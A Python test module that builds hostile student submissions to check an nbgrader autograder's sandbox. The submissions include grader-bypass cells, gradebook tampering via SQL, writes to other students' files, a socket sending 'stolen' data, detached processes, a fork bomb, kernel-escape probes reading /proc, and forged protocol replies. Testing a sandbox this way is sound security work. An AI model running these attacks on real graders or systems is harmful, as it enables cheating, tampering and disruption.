"""The adversarial corpus: submissions a hostile student could hand in, and what each must score.

Each attack builds a notebook from the assignment's solution (honest answers) or its released student
notebook (no answers), adds or changes cells, and states which autograded parts it attacks: those must
score 0, every other part its honest score. ``GENERIC`` attacks work on any assignment (they attack the
grader, not a part); ``FX`` attacks target parts of the fixture assignment ``fx``.

``ctx`` gives the attacks what a determined student might know or guess: the absolute paths of the course,
its gradebook, solutions/ and another student's submission, a port on 127.0.0.1 a test listener is
bound to, and a marker to find left-over processes by.
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass
from typing import Callable

import nbformat
from nbformat.v4 import new_code_cell

from .course import cell_by_id, gid


@dataclass(frozen=True)
class Attack:
    name: str
    build: Callable          # (solution_nb, blank_nb, ctx) -> notebook | str (raw file text)
    attacked: object         # set of grade_ids that must score 0, "all", or "ungraded" (nbgrader rejects the file)
    what: str


def _lit(path: str) -> str:
    """A Python expression for ``path`` that does not spell it (the student's own source is shown in the
    feedback; a literal path there would hide a real leak of that path from the feedback checks)."""
    return f"{path[::-1]!r}[::-1]"


def _with_cells(nb, cells, at=None):
    nb = copy.deepcopy(nb)
    new = [new_code_cell(src) for src in cells]
    if at is None:
        nb.cells += new
    else:
        idx = next((i for i, c in enumerate(nb.cells) if gid(c) == at),
                   next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")) + 1
        nb.cells[idx:idx] = new
    return nb


def _replace(nb, grade_id, old, new):
    nb = copy.deepcopy(nb)
    cell = cell_by_id(nb, grade_id)
    assert old in cell.source, (grade_id, old)
    cell.source = cell.source.replace(old, new)
    return nb


# ------------------------------------------------------------------------------------------------
# Attacks on the grader itself (any assignment)
# ------------------------------------------------------------------------------------------------

TRANSFORMER = """\
# An input transformer that turns every later cell (the test cells) into `pass`.
for ip in (globals().get("get_ipython", lambda: None)(), getattr(globals().get("exit"), "_ip", None)):
    try:
        ip.input_transformers_post.append(lambda lines: ["pass\\n"])
    except AttributeError:
        pass
"""

FAKE_G = """\
class _Pass:
    def __getattr__(self, name):
        return lambda *a, **k: None
G = _Pass()
try:
    import ffgrader.visible_tests as _S
    for _n in dir(_S):
        if not _n.startswith("__"):
            setattr(_S, _n, lambda *a, **k: None)
    import ffgrader.checks as _C  # not in the sandbox at all: only ffgrader.sandboxed and the visible tests are
    for _n in ("expect_array", "expect_scalar", "expect_equal", "expect_expr", "call", "check"):
        setattr(_C, _n, lambda *a, **k: None)
    _C.Fail = type("Fail", (Exception,), {})
except Exception:
    pass
"""

REBIND = """\
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
import builtins
builtins.isinstance = lambda *a: True
"""


# Every file of the sandbox searched by name. os.walk does not follow links: a recursive glob of "/" does, and
# loops in /usr/bin/X11 -> . until the cell's timeout stops it, before the attack has done anything with what
# it found.
WALK = """\
def walk(top, name=None):
    import os
    return [os.path.join(d, f) for d, _, files in os.walk(top) for f in files if name is None or f == name]
"""


def print_hidden(ctx):
    return f"""\
import glob, os
{WALK}
for found in (glob.glob("*.ipynb"), glob.glob("../**/*.ipynb", recursive=True), walk("/", "checks.py"),
              walk({_lit(ctx['solutions'])})):
    for p in found[:20]:
        try:
            print(p, open(p).read()[:2000])
        except OSError:
            pass
print(globals().get("In", "no In"))
for name in list(globals()):
    print(name)
raise ValueError(str(globals().get("In", "")) + str(os.listdir("/")))
"""


def fs_escape(ctx):
    return f"""\
import os, sqlite3, shutil
targets = [{", ".join(_lit(p) for p in (ctx["gradebook"], ctx["victim_nb"], ctx["victim_autograded"],
                                         ctx["solutions"] + "/x.py", ctx["checks"],
                                         ctx["course"] + "/nbgrader_config.py"))}]
for t in targets:
    for mode in ("a", "w"):
        try:
            open(t, mode).write("pwned")
        except OSError as e:
            print("no", t, type(e).__name__)
try:
    con = sqlite3.connect(targets[0])
    con.execute("UPDATE grade SET auto_score = 100")
    con.execute("UPDATE source_cell SET source = 'pass'")
    con.commit()
except Exception as e:
    print("no gradebook:", type(e).__name__)
for up in ("..", "../..", "../../..", "/proc/1/root", "/proc/self/root/.."):
    try:
        print(up, os.listdir(up)[:10])
    except OSError as e:
        print(up, type(e).__name__)
{WALK}
for d in walk("/", "gradebook.db")[:5]:
    print("found", d)
"""


def network(ctx):
    return f"""\
import socket
for family, addr in ((socket.AF_INET, ("127.0.0.1", {ctx["port"]})), (socket.AF_INET, ("localhost", {ctx["port"]}))):
    s = socket.socket(family)
    s.settimeout(2)
    try:
        s.connect(addr)
        s.sendall(b"stolen")
        print("connected")
    except OSError as e:
        print("no network:", type(e).__name__)
"""


def detached(ctx):
    # The attacker's command line carries the marker from the start, so a test can wait for it to be gone.
    return f"""\
import os, subprocess
gradebook = {_lit(ctx["gradebook"])}
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sh", ["sh", "-c", 'sleep 3; echo pwned >> "$1"; exec sleep 3600', "{ctx["marker"]}", gradebook])
    os._exit(0)
subprocess.Popen(["/usr/bin/sleep", "{ctx["marker"]}"], start_new_session=True)
"""


SIGINT_LOOP = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"
EXIT = "import os\nos._exit(0)\n"
IPY_EXIT = "exit()\n"
SEGFAULT = "import ctypes\nctypes.string_at(0)\n"
MEMORY = "hog = []\nwhile True:\n    hog.append(bytearray(50 * 2**20))\n"
FORK_BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
HUGE_OUTPUT = "for _ in range(200):\n    print('x' * 250_000)\n"
FORGED_REPLY = """\
import os, sys, json, struct
fake = json.dumps({"id": 1, "ok": True, "stdout": "[all] passed", "stderr": ""}).encode()
try:
    os.write(int(sys.argv[2]), struct.pack(">I", len(fake)) + fake)
except Exception:
    pass
"""


def _tamper_metadata(blank, solution):
    """Answers left blank, but: test cells turned into manually graded answers, points raised (one to 10**400,
    which float() refuses), a bonus grade cell invented, the locked test cells replaced by `pass` with a matching
    checksum."""
    from nbgrader.utils import compute_checksum

    nb = copy.deepcopy(blank)
    tests = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"
             and not c.metadata.nbgrader.get("solution")]
    for k, c in enumerate(tests):
        c.source = "pass"
        if k % 2 == 0:
            c.metadata.nbgrader["solution"] = True
        c.metadata.nbgrader["points"] = 100
        c.metadata.nbgrader["checksum"] = compute_checksum(c)
        if k == 1:
            c.metadata.nbgrader["points"] = 10**400  # (after the checksum, which nbgrader computes with float())
    bonus = new_code_cell("pass", metadata={"nbgrader": {"grade": True, "grade_id": "bonus", "locked": True,
                                                         "points": 50, "schema_version": 3, "solution": False,
                                                         "task": False}})
    nb.cells.append(bonus)
    junk = new_code_cell("pass", metadata={"nbgrader": "not a dict"})
    nb.cells.append(junk)
    return nb


def _delete_tests(blank, solution):
    nb = copy.deepcopy(blank)
    nb.cells = [c for c in nb.cells if not (c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"
                                            and not c.metadata.nbgrader.get("solution"))]
    return nb


CRASH_SCRATCH = ["import os\nos._exit(3)\n", "import ctypes\nctypes.string_at(0)\n", "import os, signal\n"
                 "os.kill(os.getpid(), signal.SIGKILL)\n"]
HANG = "while True:\n    pass\n"
# Hangs as well (to the cell timeout and the notebook's wall-clock budget alike), without keeping a core busy:
# hang_scratch's first cell burns the CPU as an endless loop does, the rest of its budget passes asleep.
HANG_ASLEEP = "import time\nwhile True:\n    time.sleep(1)\n"
MANY_FILES = """\
import os
os.makedirs("junk", exist_ok=True)
for i in range(200_000):              # far beyond the work directory's file cap
    open(f"junk/f{i}", "w").close()
"""
BIG_FILES = """\
written = 0
try:
    for i in range(4096):             # 4 GiB in 1 MiB files, if nothing stopped it
        with open(f"big{i}.bin", "wb") as f:
            f.write(b"x" * 2**20)
        written += 1
except OSError as e:
    print("stopped after", written, "MiB:", type(e).__name__)
"""
ESCAPE_KERNEL = """\
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
found = {}
for name, call in (("unshare(CLONE_NEWUSER)", lambda: libc.unshare(0x10000000)),
                   ("mount tmpfs", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)),
                   ("keyctl", lambda: libc.syscall(250, 0, 0, 0, 0, 0)),
                   ("ptrace(TRACEME)", lambda: libc.ptrace(0, 0, None, None))):
    found[name] = (call(), os.strerror(ctypes.get_errno()))
for path in ("/proc/1/cmdline", "/proc/self/mountinfo", "/proc/1/environ"):
    try:
        found[path] = open(path, "rb").read()[:300]
    except OSError as e:
        found[path] = type(e).__name__
print(found)
"""


def _cells_after(nb, sources):
    nb = copy.deepcopy(nb)
    nb.cells += [new_code_cell(src) for src in sources]
    return nb


def _delete_pair(solution, answer_id, test_id):
    nb = copy.deepcopy(solution)
    nb.cells = [c for c in nb.cells if gid(c) not in (answer_id, test_id)]
    return nb


GENERIC = [
    Attack("transformer", lambda sol, blank, ctx: _with_cells(blank, [TRANSFORMER], at="imports"), "all",
           "an IPython input transformer that blanks the test cells"),
    Attack("fake_g", lambda sol, blank, ctx: _with_cells(blank, [FAKE_G], at="imports"), "all",
           "a fake G and patched grading helpers"),
    Attack("rebind", lambda sol, blank, ctx: _with_cells(blank, [REBIND], at="imports"), "all",
           "numpy comparisons and builtins rebound"),
    Attack("tamper_metadata", lambda sol, blank, ctx: _tamper_metadata(blank, sol), "all",
           "test cells turned manual/pass with valid checksums, points raised, a bonus cell"),
    Attack("delete_tests", lambda sol, blank, ctx: _delete_tests(blank, sol), "all", "every test cell deleted"),
    Attack("print_hidden", lambda sol, blank, ctx: _with_cells(sol, [print_hidden(ctx)]), set(),
           "prints notebooks, checks files, In and globals into the feedback"),
    Attack("fs_escape", lambda sol, blank, ctx: _with_cells(sol, [fs_escape(ctx)], at="imports"), set(),
           "writes the gradebook, solutions/, another student's files; UPDATE grade"),
    Attack("network", lambda sol, blank, ctx: _with_cells(sol, [network(ctx)], at="imports"), set(),
           "connects to a listener on the host's 127.0.0.1"),
    Attack("detached", lambda sol, blank, ctx: _with_cells(sol, [detached(ctx)], at="imports"), set(),
           "a detached process that outlives the grading to rewrite the score"),
    Attack("sigint_loop", lambda sol, blank, ctx: _with_cells(sol, [SIGINT_LOOP], at="imports"), set(),
           "ignores SIGINT and loops"),
    Attack("exit", lambda sol, blank, ctx: _with_cells(sol, [EXIT], at="imports"), set(), "os._exit(0)"),
    Attack("ipy_exit", lambda sol, blank, ctx: _with_cells(sol, [IPY_EXIT], at="imports"), set(), "exit()"),
    Attack("segfault", lambda sol, blank, ctx: _with_cells(sol, [SEGFAULT]), set(), "a ctypes segfault"),
    Attack("memory", lambda sol, blank, ctx: _with_cells(sol, [MEMORY], at="imports"), set(), "grows memory"),
    Attack("fork_bomb", lambda sol, blank, ctx: _with_cells(sol, [FORK_BOMB]), set(), "a fork bomb"),
    Attack("huge_output", lambda sol, blank, ctx: _with_cells(sol, [HUGE_OUTPUT]), set(), "50 MB of prints"),
    Attack("forged_reply", lambda sol, blank, ctx: _with_cells(blank, [FORGED_REPLY], at="imports"), "all",
           "writes a fake 'passed' reply into the protocol pipe"),
    Attack("malformed", lambda sol, blank, ctx: json.dumps(nbformat.v4.new_notebook())[:-20], "ungraded",
           "a truncated notebook file"),
    Attack("not_a_notebook", lambda sol, blank, ctx: '{"cells": "rm -rf /", "nbformat": 4}', "ungraded",
           "JSON that is not a notebook"),
    # issue 18, families 5-7: caps, the crash promise, the kernel's surface
    Attack("crash_scratch", lambda sol, blank, ctx: _cells_after(sol, (CRASH_SCRATCH * 5)[:13]), set(),
           "13 crashing scratch cells after correct answers"),
    Attack("hang_scratch", lambda sol, blank, ctx: _cells_after(sol, [HANG] + [HANG_ASLEEP] * 11), set(),
           "12 hanging scratch cells after correct answers (more than the notebook's cell budget)"),
    Attack("many_files", lambda sol, blank, ctx: _cells_after(sol, [MANY_FILES, BIG_FILES]), set(),
           "200,000 files and 4 GiB written into the work directory"),
    Attack("huge_cells", lambda sol, blank, ctx: _cells_after(sol, ["print('y' * 100_000)"] * 1000), set(),
           "1,000 added cells printing 100 kB each"),
    Attack("escape_kernel", lambda sol, blank, ctx: _cells_after(sol, [ESCAPE_KERNEL]), set(),
           "nested user namespace, mount, keyctl, ptrace; /proc/1/cmdline and mountinfo for host paths"),
]


# nbgrader's own marker lines typed into a cell of the student's (an honest student may paste them too): the
# feedback must still be written for this student, with nothing between the markers shown.
MARKERS = ("x = 1\n### BEGIN HIDDEN TESTS\nassert x == 1  # the student's own line between the markers\n"
           "### END HIDDEN TESTS\n# === BEGIN MARK SCHEME ===\n# mine too\n# === END MARK SCHEME ===\n")


# All the escapes and crashes of GENERIC in one submission (a cheaper run on every real assignment).
ESCAPES = Attack("escapes", lambda sol, blank, ctx: _with_cells(
    sol, [fs_escape(ctx), network(ctx), detached(ctx), EXIT, SEGFAULT, print_hidden(ctx)], at="imports"), set(),
    "filesystem, gradebook, network and detached-process escapes, os._exit, a segfault, printing hidden tests")


# ------------------------------------------------------------------------------------------------
# Attacks on the parts of the fixture assignment fx
# ------------------------------------------------------------------------------------------------

LIARS = """\
import numpy as np
class Liar(float):
    def __eq__(self, other):
        return True
    def __float__(self):
        import inspect
        for f in inspect.stack():
            for v in f.frame.f_locals.values():
                if type(v) is float:
                    return v
        return 0.0
class LiarArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), bool)
    def __array_ufunc__(self, *a, **k):
        return NotImplemented
def total(x):
    return Liar(0.0)
"""

DELEGATE = """\
def double(x):
    import importlib.util
    for path in [{paths}]:
        try:
            spec = importlib.util.spec_from_file_location("c", path)
            mod = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(mod)
        except Exception:
            pass
    try:
        from nnlib import activations as _A  # the reference library is not importable here
        return _A.identity(x)
    except ImportError:
        pass
    return 3.0 * x
"""

BYHAND_GETATTR = "z = sp.Symbol('z')\n\ndef dexp():\n    return getattr(sp, 'di' + 'ff')(sp.exp(z**2), z)\n"
HELPER_CALC = "import sympy as sp\n_h = sp.Derivative(sp.exp(sp.Symbol('z')**2), sp.Symbol('z')).doit()\n"
HELPER_USE = "z = sp.Symbol('z')\n\ndef dexp():\n    return _h\n"

BYHAND_OTHER_CELL = "import sympy as sp\n_d = sp.diff(sp.exp(sp.Symbol('z')**2), sp.Symbol('z'))\n"
BYHAND_USE_OTHER = "z = sp.Symbol('z')\n\ndef dexp():\n    return _d\n"
BYHAND_EVAL = "z = sp.Symbol('z')\n\ndef dexp():\n    return sp.exp(z**2)._eval_derivative(z)\n"
BYHAND_DISPATCH = ("z = sp.Symbol('z')\n\ndef dexp():\n    from sympy.core.function import _derivative_dispatch\n"
                   "    return _derivative_dispatch(sp.exp(z**2), z).doit()\n")
BYHAND_MEMBERS = """\
import inspect
z = sp.Symbol('z')

def dexp():
    e = sp.exp(z**2)
    for name, member in inspect.getmembers(e):
        if callable(member) and ("deriv" in name or "diff" in name):
            try:
                r = member(z)
            except Exception:
                continue
            if isinstance(r, sp.Basic):
                return r
    return None
"""
BYHAND_RELOAD = ("import importlib, sys\nfor _m in [m for m in sys.modules if m.startswith('sympy')]:\n"
                 "    del sys.modules[_m]\nimport sympy as sp\nsp = importlib.reload(sp)\nz = sp.Symbol('z')\n\n"
                 "def dexp():\n    return sp.diff(sp.exp(z**2), z)\n")
BYHAND_SOURCE = """\
import os, sys
z = sp.Symbol('z')
_real = None
""" + WALK + """
for path in walk("/", "__init__.py"):   # another SymPy anywhere on disk?
    if not path.endswith("/sympy/__init__.py"):
        continue
    text = open(path.replace("__init__.py", "core/function.py")).read()
    if "switched off" not in text:
        _real = path
        break

def dexp():
    if _real is None:
        return sp.exp(z**2)
    sys.path.insert(0, _real.rsplit("/sympy/", 1)[0])
    for m in [m for m in sys.modules if m.startswith("sympy")]:
        del sys.modules[m]
    import sympy
    zz = sympy.Symbol("z")
    return sympy.diff(sympy.exp(zz**2), zz)
"""
BYHAND_WORDS = '''z = sp.Symbol('z')
print("gradient, diff, Derivative, integrate, limit, series: words cost nothing")

def dexp():
    """The derivative (diff) of exp(z^2), derived by hand with the chain rule; no sp.diff, no Derivative."""
    return 2 * z * sp.exp(z**2)
'''
MAX_BOMB = "z = sp.Symbol('z')\n\ndef dexp():\n    return sp.Max(z, sp.Pow(3, 10**8, evaluate=False), evaluate=False)\n"

HANG_CALL = "def total(x):\n    while True:\n        pass\n"
CRASH_CALL = "def double(x):\n    import os\n    os._exit(1)\n"
ANSWER_ERROR = "def double(x):\n    return 3.0 * x\nraise SystemExit('stop grading')\n"


def _set(nb, grade_id, source):
    nb = copy.deepcopy(nb)
    cell_by_id(nb, grade_id).source = source
    return nb


FX = [
    Attack("markers", lambda sol, blank, ctx: _with_cells(sol, [MARKERS]), set(),
           "nbgrader's hidden-test and mark-scheme marker lines in a cell of the student's own"),
    Attack("liars", lambda sol, blank, ctx: _set(sol, "answer_3", LIARS), {"test_3"},
           "a float subclass whose == and float() lie"),
    Attack("liar_array", lambda sol, blank, ctx: _set(sol, "answer_1", LIARS + "def double(x):\n    "
                                                    "return (3.0 * x).view(LiarArray)\n"), {"test_1"},
           "an ndarray subclass whose == says True, with wrong data"),
    Attack("delegate", lambda sol, blank, ctx: _set(sol, "answer_1", DELEGATE.format(paths=_lit(ctx["checks"]) + ", 'checks.py'")),
           {"test_1"}, "loads the instructor's checks / nnlib's reference inside the answer"),
    Attack("rebind_wrong", lambda sol, blank, ctx: _with_cells(_set(sol, "answer_1", "def double(x):\n"
                                                                                   "    return 3.0 * x\n"),
                                                              [REBIND, FAKE_G], at="answer_1"),
           {"test_1"}, "a wrong answer plus every helper rebound"),
    Attack("byhand_getattr", lambda sol, blank, ctx: _set(sol, "answer_2", BYHAND_GETATTR), {"test_2"},
           "sp.diff through getattr and a built string"),
    Attack("byhand_helper", lambda sol, blank, ctx: _with_cells(_set(sol, "answer_2", HELPER_USE), [HELPER_CALC],
                                                               at="imports"), {"test_2"},
           "Derivative(...).doit() in a cell the student added"),
    Attack("byhand_other_cell", lambda sol, blank, ctx: _with_cells(_set(sol, "answer_2", BYHAND_USE_OTHER),
                                                                    [BYHAND_OTHER_CELL], at="imports"), {"test_2"},
           "sp.diff in another cell, its result used by the by-hand answer"),
    Attack("byhand_eval_derivative", lambda sol, blank, ctx: _set(sol, "answer_2", BYHAND_EVAL), {"test_2"},
           "exp(z**2)._eval_derivative(z)"),
    Attack("byhand_dispatch", lambda sol, blank, ctx: _set(sol, "answer_2", BYHAND_DISPATCH), {"test_2"},
           "sympy.core.function._derivative_dispatch"),
    Attack("byhand_getmembers", lambda sol, blank, ctx: _set(sol, "answer_2", BYHAND_MEMBERS), {"test_2"},
           "inspect.getmembers finds a method that differentiates"),
    Attack("byhand_reload", lambda sol, blank, ctx: _set(sol, "answer_2", BYHAND_RELOAD), {"test_2"},
           "SymPy reloaded from scratch"),
    Attack("byhand_source", lambda sol, blank, ctx: _set(sol, "answer_2", BYHAND_SOURCE), {"test_2"},
           "another SymPy looked for on disk and imported"),
    Attack("byhand_words", lambda sol, blank, ctx: _set(sol, "answer_2", BYHAND_WORDS), set(),
           "an honest by-hand answer whose text says gradient, diff, Derivative"),
    Attack("max_bomb", lambda sol, blank, ctx: _set(sol, "answer_2", MAX_BOMB), {"test_2"},
           "Max(z, Pow(3, 10**8)): hours of SymPy work if the grader process evaluated it"),
    Attack("delete_pair", lambda sol, blank, ctx: _delete_pair(sol, "answer_3", "test_3"), {"test_3"},
           "an answer cell deleted together with its test cell"),
    Attack("hang_call", lambda sol, blank, ctx: _set(sol, "answer_3", HANG_CALL), {"test_3"},
           "total hangs when the grader calls it"),
    Attack("crash_call", lambda sol, blank, ctx: _set(sol, "answer_1", CRASH_CALL), {"test_1"},
           "double kills the worker when called"),
    Attack("answer_exits", lambda sol, blank, ctx: _set(sol, "answer_1", ANSWER_ERROR), {"test_1"},
           "a wrong answer cell that raises SystemExit"),
]


# ------------------------------------------------------------------------------------------------
# Attacks on the parts of the real assignments (issue 18, family 3), each hw's in one submission
# ------------------------------------------------------------------------------------------------

def _edits(nb, edits, added=()):
    """``edits``: (grade_id, old, new) replacements; ``added``: cells inserted after the first code cell."""
    nb = copy.deepcopy(nb)
    for grade_id, old, new in edits:
        nb = _replace(nb, grade_id, old, new)
    return _with_cells(nb, list(added), at=gid(next(c for c in nb.cells if c.cell_type == "code"))) if added else nb


GELU_ELSEWHERE = ("_x = sp.Symbol('x', real=True)\n"
                  "_gelu_d = sp.diff(_x * (1 + sp.erf(_x / sp.sqrt(2))) / 2, _x)   # in a cell that is not by hand\n")
BP_BY_MEMBERS = """\
import inspect
_E = (t - y) ** 2 / 2
_dE_dy = [m for n, m in inspect.getmembers(_E) if n == "diff"][0](y)
delta_out = _dE_dy * y * (1 - y)
dE_dv1 = delta_out * h1
delta_h1 = delta_out * v1 * h1 * (1 - h1)
dE_dw12 = delta_h1 * x2
"""
WRONG_WORK = {
    "hw1_neurons": ([("answer_2a", ">= theta", "> theta"),
                     ("answer_1e", "    return np.maximum(z, 0.0) + np.log1p(np.exp(-np.abs(z)))\n",
                      "    with np.errstate(all='ignore'):\n        return np.log1p(np.exp(z))\n"),
                     ("answer_3a", "return s + beta * x * s * (1 - s)", "return (x * s)._eval_derivative(x)"),
                     ("answer_3b", "return Phi + x * phi", "return _gelu_d.subs(_x, x)")],
                    [GELU_ELSEWHERE], {"test_2a", "test_1e", "test_3a", "test_3b"}),
    "hw2_perceptron": ([("answer_4", "    return W1, b1, W2, b2\n",
                         "    return np.zeros((2, 2)), np.zeros(2), np.zeros((1, 2)), np.zeros(1)\n")],
                       [], {"test_4_shapes", "test_4_table"}),
    "hw3_backprop": ([("mlp", "    return loss, grads\n",
                       "    return 2.0 * loss, [{k: 2.0 * v for k, v in g.items()} for g in grads]\n"),
                      ("autodiff", "def reverse_mode(x, w, b):\n",
                       "def reverse_mode(x, w, b):\n    return 0.5 + 0.0 * x, 0.25 + 0.0 * x, 0.25 + 0.0 * x\n"),
                      ("bp-by-hand", "delta_out = -(t - y) * y * (1 - y)\ndE_dv1 = delta_out * h1\n"
                                     "delta_h1 = delta_out * v1 * h1 * (1 - h1)\ndE_dw12 = delta_h1 * x2\n",
                       BP_BY_MEMBERS)],
                     [], {"test-mlp-loss", "test-mlp-grads", "test-mlp-gradcheck", "test-autodiff-lecture",
                          "test-autodiff-random", "test-bp-output", "test-bp-hidden"}),
    "hw4_training": ([("answer_1c", "v_new = momentum * v - lr * g", "v_new = v - lr * g")], [], {"test_1c"}),
    "hw5_approximation": ([("answer_3a", "float(np.max(np.abs(F(x) - f(x))))",
                            "float(np.mean(np.abs(F(x) - f(x))))")], [], {"test_3a"}),
    "hw6_generalization": ([("answer_2", "penalty = 0.5 * lam *", "penalty = lam *"),
                            ("answer_2", '"W": lam * p["W"]', '"W": 2 * lam * p["W"]'),
                            ("answer_4a", "val_losses[epoch - 1] < val_losses[best - 1]",
                             "val_losses[epoch - 1] <= val_losses[best - 1]")],
                           [], {"test_2a", "test_2b", "test_4a"}),
}


def wrong_work(hw):
    edits, added, attacked = WRONG_WORK[hw]
    return Attack("wrong_work", lambda sol, blank, ctx: _edits(sol, edits, added), attacked,
                  "wrong answers that the old checks accepted, and by-hand answers computed with SymPy's calculus")


# hw3: the test cells of Part 2 moved above Part 1's, and Part 2 keeping whatever a check installs in the
# notebook's globals: with trusted helpers in the sandbox, Part 1's stubs then called them.
CAPTURE_DENSE = """\
_REF = {}

def dense_forward(a_prev, W, b):
    if "f" in _REF:
        return _REF["f"](a_prev, W, b)
    raise NotImplementedError()

def dense_backward(delta, cache):
    if "b" in _REF:
        return _REF["b"](delta, cache)
    raise NotImplementedError()
"""
CAPTURE_MLP = """\
def _grab():
    for name, key in (("dense_forward", "f"), ("dense_backward", "b")):
        fn = globals().get(name)
        if fn is not None and getattr(fn, "__name__", "") == "<lambda>":
            _REF.setdefault(key, fn)

"""


def _order_capture(sol, blank, ctx):
    nb = _set(sol, "dense", CAPTURE_DENSE)
    nb = _replace(nb, "mlp", "def mlp_loss_and_grads(params, X, Y):\n",
                  CAPTURE_MLP + "def mlp_loss_and_grads(params, X, Y):\n    _grab()\n")
    tests = [c for c in nb.cells if gid(c) in ("test-mlp-loss", "test-mlp-grads", "test-mlp-gradcheck")]
    rest = [c for c in nb.cells if c not in tests]
    first = next(i for i, c in enumerate(rest) if c.cell_type == "code") + 1
    nb.cells = rest[:first] + tests + rest[first:]
    return nb


ORDER_CAPTURE = Attack("order_capture", _order_capture,
                       {"test-dense-forward", "test-dense-backward", "test-dense-gradcheck", "test-mlp-loss",
                        "test-mlp-grads", "test-mlp-gradcheck"},
                       "Part 2's test cells moved first; Part 2 keeps helpers a check put into the notebook")

# hw3: Part 2 accepts the reference chain computed by the check around the student's own Part 1 layers (the
# glue). Layers that remember what mlp_loss_and_grads was asked and answered steer that glue onto the answer:
# called by the glue with the same parameters, the last layer outputs the targets and the backward pass hands
# back the gradients mlp_loss_and_grads made up; called directly (Part 1's checks) they are honest.
GLUE_DENSE = """\
_S = {}   # filled by mlp_loss_and_grads

def dense_forward(a_prev, W, b):
    z = a_prev @ W.T + b
    for l, p in enumerate(_S.get("params", ())):
        if p["W"].shape == W.shape and np.array_equal(p["W"], W) and np.array_equal(p["b"], b):
            if l == len(_S["params"]) - 1:
                z = _S["Y"].copy()
            return z, ("glue", l, a_prev)
    return z, (a_prev, W)

def dense_backward(delta, cache):
    if isinstance(cache[0], str):
        _, l, a_prev = cache
        g = _S["G"][l]
        return np.zeros_like(a_prev), g["W"].copy(), g["b"].copy()
    a_prev, W = cache
    return delta @ W, delta.T @ a_prev, delta.sum(axis=0)
"""
GLUE_MLP = """\
from scipy.special import expit as sigmoid

def mlp_loss_and_grads(params, X, Y):
    G = [{"W": np.ones_like(p["W"]), "b": np.ones_like(p["b"])} for p in params]
    _S.update(params=params, Y=Y, G=G)
    return 0.0, G
"""
GLUE_STEER = Attack("glue_steer", lambda sol, blank, ctx: _set(_set(sol, "dense", GLUE_DENSE), "mlp", GLUE_MLP),
                    {"test-mlp-loss", "test-mlp-grads", "test-mlp-gradcheck"},
                    "Part 1's layers remember Part 2's call and steer the check's glue onto its made-up answer")

# hw5: the worker's own request handler wrapped, every request kept, and shown in a failure message
SPY = """\
import gc
_LOG = []
for _o in gc.get_objects():
    if type(_o).__name__ == "Worker" and hasattr(_o, "op_call"):
        def _spy(req, _orig=_o.op_call):
            _LOG.append(str(req)[:3000])
            return _orig(req)
        _o.op_call = _spy
"""
REQUEST_CAPTURE = Attack("request_capture", lambda sol, blank, ctx: _with_cells(
    _replace(sol, "answer_3c", "    errors = np.empty(len(Ms))\n",
             "    raise ValueError('captured: ' + ' | '.join(_LOG[-40:]))\n    errors = np.empty(len(Ms))\n"),
    [SPY], at="imports"), {"test_3c"}, "every request the grader sends is captured and printed into the feedback")
